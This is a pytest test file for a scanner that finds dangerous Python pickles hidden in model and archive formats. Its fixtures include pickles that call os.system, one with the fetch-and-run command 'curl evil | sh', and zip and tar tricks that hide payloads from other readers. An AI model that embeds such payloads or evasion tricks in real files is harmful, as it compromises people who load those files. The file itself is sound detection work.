"""Verdicts on pickles: every known trick, in every place a pickle can hide in; and what is harmless is called safe."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable

import pytest
from mvtui.store.errors import BadFileError
from mvtui.store.knowledge.formats import Source
from mvtui.store.knowledge.formats.pickled.search import search
from mvtui.store.nouns.pickles import Pickles

from . import made
from .assembly import (
    LINEAR,
    LINEAR_DATA,
    MAGIC,
    SYSTEM,
    VERSION,
    Code,
    archive,
    call,
    name,
    new,
    ordered,
    pickled,
    put,
    script_zip,
    storage,
    tensor,
    torch_old,
    torch_zip,
)
from .tricks import TRICKS, Trick

EVIL = TRICKS["os.system"].data
BARE = TRICKS["protocol 0"].data
"""A pickle without the mark that those of protocol 2 and later begin with."""


def verdict(data: bytes, path: str = "some.pkl") -> Pickles | None:
    return search(Source(io.BytesIO(data), len(data), path))


def told(data: bytes, path: str = "some.pkl") -> str:
    found = verdict(data, path)
    return "none" if found is None else found.verdict


def in_tar(data: bytes, inside: str = "pickle") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        for path, content in (("storages", bytes(700)), (inside, data)):
            member = tarfile.TarInfo(path)
            member.size = len(content)
            tar.addfile(member, io.BytesIO(content))
    return out.getvalue()


def in_array(data: bytes) -> bytes:
    return made.npy("'|O'", "(1,)", 0) + data


def joblib(rest: bytes, array: bytes = bytes(16)) -> bytes:
    """A file of joblib: a list with an array, whose bytes lie between the opcodes, and what else is put on the stack."""
    number = (
        call("numpy", "dtype", "f4", False, True).code + put((3, "<", None, None, None, -1, -1, 0)) + b"b"
    )
    wrapper = new(
        "joblib.numpy_pickle",
        "NumpyArrayWrapper",
        {"shape": (2, 2), "order": "C", "dtype": Code(number), "numpy_array_alignment_bytes": 16},
    )
    return b"\x80\x03](" + wrapper.code + b"\x03\xff\xff\xff" + array + rest + b"e."


_AT_HOME = ("TorchScript", "TorchScript's names outside of TorchScript")
PLACES: dict[str, Callable[[bytes], tuple[str, bytes]]] = {
    "a plain file": lambda data: ("a.pkl", data),
    "a plain file of another name": lambda data: ("weights.dat", data),
    "data.pkl of PyTorch": lambda data: ("m.pt", archive({"data.pkl": data, "version": b"3"})),
    "a compressed data.pkl": lambda data: ("m.pt", archive({"data.pkl": data, "version": b"3"}, packed=["data.pkl"])),
    "beside the data.pkl of PyTorch": lambda data: ("m.pt", torch_zip({}, {}, {"extra/other": data})),
    "a storage of PyTorch": lambda data: ("m.pt", torch_zip({}, {"0": data})),
    "another root in the archive": lambda data: ("m.pt", archive({"a/data.pkl": pickled({}), "b/data.pkl": data}, root="")),
    "TorchScript": lambda data: ("m.pt", archive({"constants.pkl": data, "data.pkl": pickled({})})),
    "the object of an old file of PyTorch": lambda data: ("m.pth", MAGIC + VERSION + SYSTEM + data + pickled([])),
    "the first pickle of an old file": lambda data: ("m.pth", data + VERSION + SYSTEM + pickled({}) + pickled([])),
    "the system of an old file": lambda data: ("m.pth", MAGIC + VERSION + data + pickled({}) + pickled([])),
    "an archive of NumPy": lambda data: ("a.npz", made.npz({"a.npy": made.npy(), "b.pkl": data})),
    "an array of objects": lambda data: ("a.npy", in_array(data)),
    "an array of objects in an archive": lambda data: ("a.npz", made.npz({"a.npy": made.npy(), "b.npy": in_array(data)})),
    "a compressed array of objects": lambda data: ("a.npz", made.npz({"b.npy": in_array(data)}, packed=True)),
    "behind an array": lambda data: ("a.npy", made.npy() + data),
    "an archive in an archive": lambda data: ("a.zip", archive({"inner.zip": archive({"x.pkl": data})}, packed=["inner.zip"])),
    "tar": lambda data: ("m.tar", in_tar(data)),
    "tar under PyTorch's name": lambda data: ("m.pth", in_tar(data)),
    "gzip": lambda data: ("a.joblib", gzip.compress(data)),
    "zlib": lambda data: ("a.joblib", zlib.compress(data)),
    "bzip2": lambda data: ("a.pkl.bz2", bz2.compress(data)),
    "xz": lambda data: ("a.pkl.xz", lzma.compress(data)),
    "lzma": lambda data: ("a.joblib", lzma.compress(data, format=lzma.FORMAT_ALONE)),
    "behind another pickle": lambda data: ("a.pkl", pickled({"a": 1}) + data),
    "bytes of another pickle": lambda data: ("a.pkl", pickled({"a": [data]})),
    "the end of a pickle": lambda data: ("a.pkl", pickled({"a": 1}) + made.npz({"x.npy": in_array(data)})),
}  # fmt: skip


@pytest.mark.parametrize(
    ("place", "trick"),
    [(place, trick) for place in PLACES for trick in TRICKS if (place, trick) != _AT_HOME],
)
def test_every_trick_is_told_in_every_place(place: str, trick: str) -> None:
    data, expected, named = TRICKS[trick]
    path, file = PLACES[place](data)
    found = verdict(file, path)
    assert found is not None
    assert found.verdict == expected, found
    for reason in named:
        assert any(reason in each for each in found.reasons), found.reasons
    if expected == "unsafe":
        assert not any(each in found.imports for each in found.unsafe if " " in each)


def test_the_call_is_shown_with_its_arguments() -> None:
    found = verdict(
        pickled([call("os", "system", "curl evil | sh"), call("subprocess", "run", ["a", "b"], 1)])
    )
    assert found is not None
    assert found.calls == ("os.system('curl evil | sh')", "subprocess.run(['a', 'b'], 1)")
    long = verdict(pickled(call("os", "system", "x" * 5000)))
    assert long is not None
    assert max(map(len, long.calls)) < 200


# -- what is harmless --------------------------------------------------------------------------------------

SAFE: dict[str, tuple[str, bytes]] = {
    "plain values": ("a.pkl", pickled({"a": [1, 2.5, None, True, ("x", b"y")]})),
    "a state": ("m.pt", torch_zip(ordered(LINEAR), LINEAR_DATA)),
    "an old state": ("m.pth", torch_old(ordered({"w": tensor(storage("FloatStorage", "0", 2, old=True), [2])}), {"0": (2, bytes(8))})),
    "a model": ("m.pt", torch_zip(new("torch.nn.modules.linear", "Linear", {"_parameters": ordered({}), "training": True}))),
    "TorchScript": ("m.pt", script_zip(new("__torch__.m", "Net", {"fc": new("__torch__.m", "Linear", LINEAR)}), LINEAR_DATA)),
    "arguments of a training": ("a.bin", torch_zip(new("transformers.training_args", "TrainingArguments", {"lr": 1.0}))),
    "python 2's names": ("a.pkl", pickled([call("copy_reg", "_reconstructor", name("__builtin__", "object"), name("__builtin__", "object"), None)])),
    "a storage in bytes": ("a.pkl", pickled(call("torch.storage", "_load_from_bytes", torch_old(1)))),
    "several": ("a.pkl", pickled(1) + pickled(2) + pickled({})),
    "joblib": ("a.joblib", joblib(b"")),
    "protocol 0": ("a.pkl", b"(dp0\nS'a'\np1\nI1\ns."),
    "bytes that are no pickle": ("a.pkl", pickled({"a": b"cat\ndog\nRat", "b": b"\x80\x04 not at all"})),
    "bytes that hold a harmless one": ("a.pkl", pickled({"a": pickled(call("collections", "OrderedDict"))})),
}  # fmt: skip


@pytest.mark.parametrize("case", SAFE)
def test_what_is_harmless_is_safe(case: str) -> None:
    path, data = SAFE[case]
    found = verdict(data, path)
    assert found is not None
    assert (found.verdict, found.unsafe, found.unknown, found.unread, found.calls) == ("safe", (), (), (), ())


def test_all_names_are_told() -> None:
    found = verdict(torch_zip(ordered(LINEAR), LINEAR_DATA), "m.pt")
    assert found is not None
    assert found.imports == (
        "collections.OrderedDict",
        "torch._utils._rebuild_tensor_v2",
        "torch.FloatStorage",
        "torch.HalfStorage",
    )


@pytest.mark.parametrize(
    ("path", "data"),
    [
        ("model.safetensors", made.safetensors({"a": ("F32", [1], 4)})),
        ("model.gguf", made.gguf()),
        ("README.md", b"cos\nsin\ntan\n"),
        ("vocab.txt", b"cat\ndog\n(in the\nbeginning\nRR\n"),
        ("train.py", b"import os\nimport sys\nclass Net:\n    pass\n"),
        ("numbers.bin", struct.pack("<1000f", *[0.5] * 1000)),
        ("zeros.bin", bytes(4000)),
        ("data.csv", b"Id,a,b\n1,2,3\n"),
        ("config.json", b'{"a": [1, 2]}'),
        ("a.npz", made.npz({"a.npy": made.npy(), "b.npy": made.npy("'<i8'", "(3,)", 24)}, packed=True)),
        ("a.zip", archive({"text.txt": b"hello", "more/cos": b"cos\nsin\n"}, packed=["text.txt"])),
        ("text.tar", in_tar(b"(hello)", "hello.txt")),
        ("text.txt.gz", gzip.compress(b"class Net\nhello\n" * 10_000)),
        ("random", bytes(range(128, 256)) * 9),
        ("marked", b"\x80\x02 and no pickle"),
        ("marked.bin", b"\x80\x02N"),
        ("nothing", b""),
        ("lines.txt", b"V" + b"long line " * 10_000 + b"\nand more"),
        ("idl.sav", b"SR\0\4" + bytes(40)),
        ("photos.tar.gz", gzip.compress(in_tar(bytes(17 << 20), "photo.raw"), 1)),
    ],
)
def test_what_is_no_pickle_is_none(path: str, data: bytes) -> None:
    assert verdict(data, path) is None


# -- what could not be looked at --------------------------------------------------------------------------

PARTLY: dict[str, tuple[str, bytes, str]] = {
    "cut": ("a.pkl", pickled({"a": 1})[:-3], "it ends in the middle of a pickle"),
    "not a pickle": ("a.pkl", b"\xffhello", "byte 0 is no opcode"),
    "empty": ("a.npy", made.npy("'|O'", "(1,)", 3), "byte 0 is no opcode"),
    "bytes behind it": ("a.pkl", pickled(1) + b"\xff\xff", "2 bytes follow its pickles"),
    "LZ4": ("a.joblib", b"\x04\x22\x4d\x18abcd", "it is compressed (LZ4), and can't be unpacked here"),
    "Zstandard": ("a.pkl", b"\x28\xb5\x2f\xfdabcd", "it is compressed (Zstandard)"),
    "cut gzip": ("a.joblib", gzip.compress(pickled(list(range(9000))))[:-2000], "bytes were unpacked"),
    "Python code": ("a.pt", archive({"x.pkl": pickled(1), "net.py": b"import os"}), "it holds Python code"),
    "a member of another method": (
        "a.npz",
        made.npz({"a.pkl": pickled(1)}).replace(b"PK\x01\x02\x14\x03\x14\0\0\0\0\0", b"PK\x01\x02\x14\x03\x14\0\0\0\x0c\0"),
        "packed in a way not known here",
    ),
    "deep": (
        "a.zip",
        archive({"1": archive({"2": archive({"3": archive({"4": archive({"5.pkl": EVIL})})})})}),
        "it is nested too deeply",
    ),
    "long": ("a.pkl", b"\x80\x02" + b"N0" * 2_100_000 + b"N.", "it has too many opcodes"),
    "a tar with a length of its own": ("a.tar", in_tar(pickled(1)).replace(b"storages\0", b"storages\0")[:600], "longer than the archive"),
    "a type that joblib's array does not say": (
        "a.joblib",
        b"\x80\x03" + new("joblib.numpy_pickle", "NumpyArrayWrapper", {"shape": (2,), "order": "C"}).code + b"." ,
        "can't be told from what follows",
    ),
}  # fmt: skip


@pytest.mark.parametrize("case", PARTLY)
def test_what_could_not_be_looked_at_is_told(case: str) -> None:
    path, data, why = PARTLY[case]
    found = verdict(data, path)
    assert found is not None
    assert found.verdict == "partial", found
    assert any(why in each for each in found.unread), found.unread


# -- two things at once -----------------------------------------------------------------------------------


def test_a_pickle_that_is_valid_json_or_text_is_told_by_what_it_calls() -> None:
    assert told(BARE, "notes.txt") == "unsafe"
    assert told(BARE + b"\nand so on", "config.json") == "unsafe"
    assert told(b"\nhello\n" + BARE, "notes.txt") == "none"


def test_joblib_and_pickle_see_different_opcodes_and_both_are_looked_at() -> None:
    evil = call("os", "system", "id").code
    assert told(joblib(evil), "a.joblib") == "unsafe"
    # To joblib these are the bytes of an array, to pickle they are opcodes.
    hidden = joblib(b"", (b"0" + evil + b".").ljust(16, b"."))
    assert told(hidden.replace(b"\x03\xff\xff\xff0", b"0", 1), "a.joblib") == "unsafe"


def test_an_array_of_objects_between_the_opcodes_of_joblib() -> None:
    objects = (
        call("numpy", "dtype", "O8", False, True).code + put((3, "|", None, None, None, -1, -1, 63)) + b"b"
    )
    wrapper = new(
        "joblib.numpy_pickle", "NumpyArrayWrapper", {"shape": (1,), "order": "C", "dtype": Code(objects)}
    )
    assert told(b"\x80\x03](" + wrapper.code + pickled([1, 2]) + b"Ne.", "a.joblib") == "safe"
    assert told(b"\x80\x03](" + wrapper.code + EVIL + b"Ne.", "a.joblib") == "unsafe"
    assert (
        told(b"\x80\x03](" + wrapper.code + pickled(1) + call("os", "system", "id").code + b"e.", "a.joblib")
        == "unsafe"
    )
    # A type may say of itself that it holds objects.
    lying = call("numpy", "dtype", "V8", False, True).code + put((3, "|", None, None, None, 8, 1, 1)) + b"b"
    wrapper = new(
        "joblib.numpy_pickle", "NumpyArrayWrapper", {"shape": (1,), "order": "C", "dtype": Code(lying)}
    )
    assert told(b"\x80\x03](" + wrapper.code + EVIL + b"Ne.", "a.joblib") == "unsafe"


def test_a_frame_that_reaches_over_an_array_of_joblib_is_told() -> None:
    data = joblib(b"")
    framed = data[:2] + b"\x95" + struct.pack("<Q", len(data)) + data[2:]
    assert told(framed, "a.joblib") == "partial"


def test_tar_and_pickle_at_once() -> None:
    start = pickled(1) + b"\0" * 10
    tar = bytearray(in_tar(EVIL))
    tar[: len(start)] = start  # the first member has an odd name, and the file begins with a pickle
    tar[148:156] = b"%06o\0 " % (sum(tar[:148]) + sum(tar[156:512]) + 8 * 32)
    assert told(bytes(tar), "m.pth") == "unsafe"


def test_sizes_in_extended_headers_of_tar_are_not_followed() -> None:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        member = tarfile.TarInfo("a.pkl")
        member.size = len(EVIL)
        member.pax_headers = {"size": str(len(EVIL))}
        tar.addfile(member, io.BytesIO(EVIL))
    found = verdict(out.getvalue(), "a.tar")
    assert found is not None
    assert found.verdict == "partial"
    assert "says its length in a way" in found.unread[0]


def test_sparse_members_of_tar_are_not_followed() -> None:
    tar = bytearray(in_tar(b"N."))
    tar[156:157] = b"S"
    tar[148:156] = b"%06o\0 " % (sum(tar[:148]) + sum(tar[156:512]) + 8 * 32)
    assert told(bytes(tar), "m.tar") == "partial"


def test_a_directory_in_tar_has_no_bytes_whatever_it_says() -> None:
    tar = bytearray(in_tar(EVIL)[1536:])  # without the first member
    head = tarfile.TarInfo("d")
    head.type, head.size = tarfile.DIRTYPE, 0
    block = bytearray(head.tobuf(tarfile.USTAR_FORMAT))
    block[124:136] = b"%011o\0" % len(tar)
    block[148:156] = b"%06o\0 " % (sum(block[:148]) + sum(block[156:512]) + 8 * 32)
    assert told(bytes(block + tar), "m.tar") == "unsafe"


# -- archives that lie ------------------------------------------------------------------------------------


def zipped(members: list[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        for path, data in members:
            file.writestr(zipfile.ZipInfo(path), data)
    return out.getvalue()


def test_a_name_that_is_there_twice() -> None:
    with pytest.warns(UserWarning, match="Duplicate name"):
        data = zipped([("m/data.pkl", pickled({})), ("m/data.pkl", EVIL)])
    found = verdict(data, "m.pt")
    assert found is not None
    assert found.verdict == "unsafe"
    assert any("is there twice" in each for each in found.unread)


def changed(data: bytes, signature: bytes, at: int, value: bytes) -> bytes:
    place = data.rindex(signature) + at
    return data[:place] + value + data[place + len(value) :]


@pytest.mark.parametrize(
    ("signature", "at", "value"),
    [
        (b"PK\x01\x02", 8, b"\x01"),  # encrypted, says the directory
        (b"PK\x03\x04", 6, b"\x01"),  # encrypted, says the member
        (b"PK\x01\x02", 16, b"\0\0\0\0"),  # its sum is wrong
        (b"PK\x03\x04", 14, b"\0\0\0\0"),
        (b"PK\x03\x04", 30, b"x"),  # another name in one place than in the other
        (b"PK\x01\x02", 46, b"/"),
        (b"PK\x01\x02", 24, b"\xff\xff"),  # another size
        (b"PK\x01\x02", 34, b"\x01"),  # on another disk
        (b"PK\x05\x06", 4, b"\x01"),
        (b"PK\x05\x06", 8, b"\0\0\0\0"),  # no members, says the end
        (b"PK\x05\x06", 10, b"\x07"),
    ],
)
def test_marks_that_keep_other_readers_out(signature: bytes, at: int, value: bytes) -> None:
    data = changed(zipped([("m/data.pkl", EVIL)]), signature, at, value)
    assert told(data, "m.pt") == "unsafe"


def test_a_directory_that_only_some_readers_find() -> None:
    good, evil = zipped([("m/data.pkl", pickled({}))]), zipped([("m/data.pkl", EVIL)])
    # Python looks right before the end, others where the end says: in a file with something before it these differ.
    begin = evil.index(b"PK\x01\x02")
    members, directory, end = evil[:begin], evil[begin:-22], evil[-22:]
    shifted = good[:-22] + members + directory + end
    assert told(shifted, "m.pt") == "unsafe"
    with pytest.raises(BadFileError, match="does not end where it is said to"):
        made.read(good[:-22] + members + directory + good[-22:], "a.npz")


def test_the_large_directory_counts_for_all_who_know_of_it() -> None:
    good, evil = zipped([("m/data.pkl", pickled({}))]), zipped([("m/data.pkl", EVIL)])
    member, own = good[: good.index(b"PK\x01\x02")], good[good.index(b"PK\x01\x02") : -22]
    other, directory = evil[: evil.index(b"PK\x01\x02")], bytearray(evil[evil.index(b"PK\x01\x02") : -22])
    directory[42:46] = struct.pack("<I", len(member))
    before = member + other + bytes(directory) + own
    begin = len(member) + len(other)
    end64 = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, 1, 1, len(directory), begin)
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, len(before), 1)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1, 1, len(own), begin + len(directory), 0)
    data = before + end64 + locator + end
    assert told(data, "m.pt") == "unsafe"
    found = made.read(data, "m.pt")
    assert "two directories are said to be in two places" in found.problem


def test_an_end_in_the_comment_is_not_the_end() -> None:
    data = zipped([("m/data.pkl", EVIL)])
    assert told(data[:-2] + b"\x04\0PK\x05\x06", "m.pt") == "unsafe"


@pytest.mark.parametrize(
    "before", [b"GIF89a", made.npy("'<f4'", "(1,)", 4), gzip.compress(b"GIF89a"), bytes(70_000)]
)
def test_an_archive_behind_something_else(before: bytes) -> None:
    assert told(before + zipped([("data", EVIL)]), "some.zip") == "unsafe"
    assert told(before + zipped([("a.txt", b"hello")]), "some.zip") == "none"


def test_an_archive_that_nothing_can_open() -> None:
    data = zipped([("m/data.pkl", EVIL)])
    assert told(data[:-30], "m.pt") == "partial"


@pytest.mark.parametrize(
    ("head", "path", "most", "expected"),
    [
        (b"V", "weights.dat", 129 << 20, ("it takes reading too many bytes",)),
        (b"V", "weights.pkl", 129 << 20, ("it takes reading too many bytes",)),
        (b"\x80\x02V", "weights.dat", 129 << 20, ("it takes reading too many bytes",)),
    ],
)
def test_no_more_is_read_than_may_be(head: bytes, path: str, most: int, expected: tuple[str, ...]) -> None:
    file = made.Vast(1 << 40, head=head, pattern=b"x")
    found = search(Source(file, file.size, path))
    assert found is not None
    assert found.unread == expected
    assert file.taken < most


def test_each_trick_has_a_verdict_that_is_not_safe() -> None:
    assert {trick.verdict for trick in TRICKS.values()} == {"unsafe", "unknown"}
    assert len(TRICKS) > 100
    assert all(isinstance(trick, Trick) for trick in TRICKS.values())
